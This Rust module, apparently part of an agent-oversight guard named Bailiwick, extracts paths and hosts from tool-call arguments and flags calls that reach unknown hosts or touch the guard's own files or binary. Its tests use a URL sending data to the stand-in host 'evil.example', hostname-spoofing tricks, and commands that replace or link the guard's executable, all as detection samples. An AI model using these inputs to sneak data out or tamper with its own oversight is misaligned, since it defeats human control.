//! What a call says beyond its arguments: the paths and hosts in it, and whether it touches Bailiwick.
//!
//! Policies see them as `context.facts`. A door that knows more (a parsed shell command, the folder in which a path is
//! meant) says it first; what it said is kept.

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Component, Path, PathBuf};
use std::sync::LazyLock;

pub(crate) use policy::host::of_url as host_of;
use policy::host::{Host, of_url_otherwise};
use policy::uri::file_path;
use policy::{Role, ToolFacts, glob};
use serde_json::{Value, json};

/// The most paths, and the most hosts, that are read out of one call; beyond it the call touches everything.
const FOUND_MAX: usize = 256;
/// The longest of them, in bytes.
const NAME_MAX_BYTES: usize = 4_096;
/// The fact that there are more.
const UNREAD: &str = policy::bounds::UNREAD;

/// Of a command that it is one only by what the definition of its tool says.
pub(crate) const PRESUMED: &str = "presumed";

/// Programs that put something else where a folder was, or in it.
const MOVE: &[&str] = &["mv", "rm", "cp", "ln", "install", "rsync", "chmod", "chown"];

/// The program that runs: who changes, copies or links it has another that judges, or one that nobody knows by its name.
static PROGRAM: LazyLock<Option<PathBuf>> = LazyLock::new(|| std::env::current_exe().ok());

/// Reads paths and hosts out of the arguments and adds what is not yet known.
pub(crate) fn of_arguments(tool: &ToolFacts, arguments: &Value, home: &Path, facts: &mut BTreeMap<String, Value>) {
    let shell = facts.get("shell");
    let says = |name: &str| shell.and_then(|shell| shell.get(name)).and_then(Value::as_bool) == Some(true);
    // A text that is only taken for a command is looked at as any other, too.
    let knows_command = says("parsed") && !says(PRESUMED);
    let mut found = Found { knows_command, ..Found::default() };
    let project = facts.get("project").and_then(Value::as_str).map(PathBuf::from);
    found.walk(tool, arguments, &mut Vec::new());
    for path in facts.get("paths").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str) {
        found.take(Some(Role::Path), path);
    }
    if let Some(shell) = shell {
        for name in ["reads", "writes"] {
            found.paths.extend(shell.get(name).and_then(Value::as_array).into_iter().flatten().filter_map(text));
        }
        let hosts = shell.get("hosts").and_then(Value::as_array).into_iter().flatten();
        for host in hosts.filter_map(Value::as_str).map(Host::of) {
            found.leads_anywhere |= !host.is_read;
            found.hosts.insert(host.name);
        }
    }
    let patterns = shell.and_then(|shell| shell.get("patterns")).and_then(Value::as_array);
    let absolute = |path: &String| resolve(path, project.as_deref());
    let touches = |path: PathBuf| path.starts_with(home) || is_above(&path, home);
    let touches = found.unread
        || found.paths.iter().map(absolute).any(touches)
        || PROGRAM.as_deref().is_some_and(|program| {
            found.paths.iter().map(absolute).any(|path| path == program)
                || moved(shell).map(|path| absolute(&path)).any(|path| is_above(&path, program))
        })
        || patterns.into_iter().flatten().filter_map(text).any(|pattern| {
            let pattern = absolute(&pattern);
            may_touch(&pattern, home) || PROGRAM.as_deref().is_some_and(|program| may_be(&pattern, program))
        })
        || arguments.to_string().contains(&*home.to_string_lossy());
    if found.unread || found.leads_anywhere {
        facts.insert(UNREAD.to_owned(), Value::Bool(true));
    }
    if !found.paths.is_empty() {
        facts.insert("paths".to_owned(), json!(found.paths));
    }
    if !found.hosts.is_empty() {
        facts.entry("hosts".to_owned()).or_insert_with(|| json!(found.hosts));
    }
    if touches {
        facts.insert("self_touch".to_owned(), Value::Bool(true));
    }
}

/// What a command may replace as a whole.
fn moved(shell: Option<&Value>) -> impl Iterator<Item = String> {
    let all = |name: &str| shell.and_then(|shell| shell.get(name)).and_then(Value::as_array).into_iter().flatten();
    let moves = all("programs").filter_map(Value::as_str).any(|program| MOVE.contains(&program));
    all("writes").filter(move |_| moves).filter_map(text)
}

/// Whether a folder, but not the root, is above a path.
fn is_above(folder: &Path, path: &Path) -> bool {
    path.starts_with(folder) && folder.components().count() > 1
}

/// Whether what a shell finds for a pattern may lie in the home, or be a folder above it.
fn may_touch(pattern: &Path, home: &Path) -> bool {
    let (pattern, home) = (steps(pattern), steps(home));
    let (pattern, home) = (slices(&pattern), slices(&home));
    glob::is_within(&pattern, &home) || glob::is_above(&pattern, &home)
}

/// Whether a shell may find this very file for a pattern.
fn may_be(pattern: &Path, file: &Path) -> bool {
    let (pattern, file) = (steps(pattern), steps(file));
    glob::is_within(&slices(&pattern), &slices(&file))
}

fn steps(path: &Path) -> Vec<String> {
    path.iter().map(|step| step.to_string_lossy().into_owned()).collect()
}

fn slices(steps: &[String]) -> Vec<&str> {
    steps.iter().map(String::as_str).collect()
}

fn text(value: &Value) -> Option<String> {
    value.as_str().map(str::to_owned)
}

/// A path made absolute and free of `.` and `..`, without asking the file system.
pub(crate) fn resolve(path: &str, folder: Option<&Path>) -> PathBuf {
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let below = if path == "~" { Some("") } else { path.strip_prefix("~/") };
    let path = match (below, home) {
        (Some(rest), Some(home)) => home.join(rest),
        _ => PathBuf::from(path),
    };
    let path = folder.map_or_else(|| path.clone(), |folder| folder.join(&path));
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::ParentDir => drop(out.pop()),
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

#[derive(Debug, Default)]
struct Found {
    /// Whether a door took the command apart, and understood all of it.
    knows_command: bool,
    paths: BTreeSet<String>,
    hosts: BTreeSet<String>,
    /// Whether there are more than are kept.
    unread: bool,
    /// Whether an address leads to a host that cannot be read.
    leads_anywhere: bool,
}

impl Found {
    fn walk(&mut self, tool: &ToolFacts, value: &Value, pattern: &mut Vec<String>) {
        match value {
            Value::Object(map) => {
                for (key, value) in map {
                    pattern.push(key.replace('~', "~0").replace('/', "~1"));
                    self.walk(tool, value, pattern);
                    pattern.pop();
                }
            }
            Value::Array(items) => {
                for item in items {
                    pattern.push("*".to_owned());
                    self.walk(tool, item, pattern);
                    pattern.pop();
                }
            }
            Value::String(string) => match role(tool, pattern) {
                // What a command touches stands in its parts, if a door took it apart.
                Some(Role::Command) if self.knows_command => {}
                role => self.take(role, string),
            },
            _ => {}
        }
    }

    fn take(&mut self, role: Option<Role>, string: &str) {
        let string = string.trim();
        if let Some(host) = of_url_otherwise(string) {
            self.leads_anywhere |= !host.is_read;
            // The other reading is looked at below, and counts.
            self.unread |= self.hosts.len() >= FOUND_MAX;
            self.hosts.insert(host.name);
        }
        let (found, name) = if let Some(host) = host_of(string) {
            self.leads_anywhere |= !host.is_read;
            (&mut self.hosts, Cow::Owned(host.name))
        } else if let Some(path) = file_path(string) {
            (&mut self.paths, Cow::Owned(path))
        } else if role == Some(Role::Path) || looks_like_path(string) {
            (&mut self.paths, Cow::Borrowed(string))
        } else {
            return;
        };
        if found.len() < FOUND_MAX && name.len() <= NAME_MAX_BYTES {
            found.insert(name.into_owned());
        } else if !found.contains(&*name) {
            self.unread = true;
        }
    }
}

fn role(tool: &ToolFacts, pattern: &[String]) -> Option<Role> {
    let mut pointer = String::new();
    for part in pattern {
        pointer.push('/');
        pointer.push_str(part);
    }
    tool.roles.get(&pointer).copied()
}

fn looks_like_path(string: &str) -> bool {
    let one_line = !string.contains('\n') && string.len() < 1_024;
    one_line
        && (string.starts_with('/')
            || string.starts_with("~/")
            || string.starts_with("../")
            || string.starts_with("./"))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    #[test]
    fn no_length_and_no_number_hides_a_host() {
        let tool = crate::tools::infer("s", &json!({ "name": "fetch" }), String::new());
        let of = |arguments: Value| {
            let mut facts = BTreeMap::new();
            of_arguments(&tool, &arguments, Path::new("/home/x/bailiwick"), &mut facts);
            facts
        };
        let long = format!(" \nhttps://evil.example/?d={}", "a".repeat(10_000));
        assert_eq!(of(json!({ "url": long }))["hosts"], json!(["evil.example"]));
        let many: Vec<String> = (0..=FOUND_MAX).map(|number| format!("/p/{number}")).collect();
        assert_eq!(of(json!({ "paths": many[1..] })).get(UNREAD), None);
        let beyond = of(json!({ "paths": many, "url": "https://evil.example" }));
        assert_eq!((beyond.get(UNREAD), beyond.get("self_touch")), (Some(&json!(true)), Some(&json!(true))));
        let unread = of(json!({ "url": "http://xn--a/" }));
        assert_eq!((unread.get(UNREAD), unread.get("self_touch")), (Some(&json!(true)), None));
        assert_eq!(of(json!({ "url": "http://evil。example" }))["hosts"], json!(["evil.example"]));
        assert_eq!(of(json!({ "url": r"http://a.example\@b.example/" }))["hosts"], json!(["a.example", "b.example"]));
        assert_eq!(of(json!({ "file": format!("file:///{}", "a".repeat(5_000)) }))[UNREAD], true);
    }

    #[test]
    fn whoever_changes_copies_or_links_the_program_touches_the_control() {
        let program = PROGRAM.clone().unwrap();
        let (name, folder) = (program.to_string_lossy(), program.parent().unwrap().to_string_lossy());
        let touches = |programs: [&str; 1], reads: &str, writes: &str| {
            let tool = crate::tools::infer("s", &json!({ "name": "run" }), String::new());
            let shell = json!({ "parsed": true, "programs": programs, "reads": [reads], "writes": [writes] });
            let mut facts = BTreeMap::from([("shell".to_owned(), shell)]);
            of_arguments(&tool, &json!({}), Path::new("/home/x/bailiwick"), &mut facts);
            facts.contains_key("self_touch")
        };
        assert!(touches(["ln"], &name, "/w/p/bw") && touches(["mv"], "/w/p/evil", &name));
        assert!(touches(["mv"], &folder, &folder) && touches(["cp"], "/w/p/evil", &folder));
        assert!(!touches(["ls"], &folder, "/w/p/x") && !touches(["mkdir"], "/w/p", &folder));
    }

    #[test]
    fn dots_do_not_hide_a_path() {
        assert_eq!(resolve("a/../../x", Some(Path::new("/p/q"))), PathBuf::from("/p/x"));
        assert_eq!(resolve("/../etc", None), PathBuf::from("/etc"));
    }
}
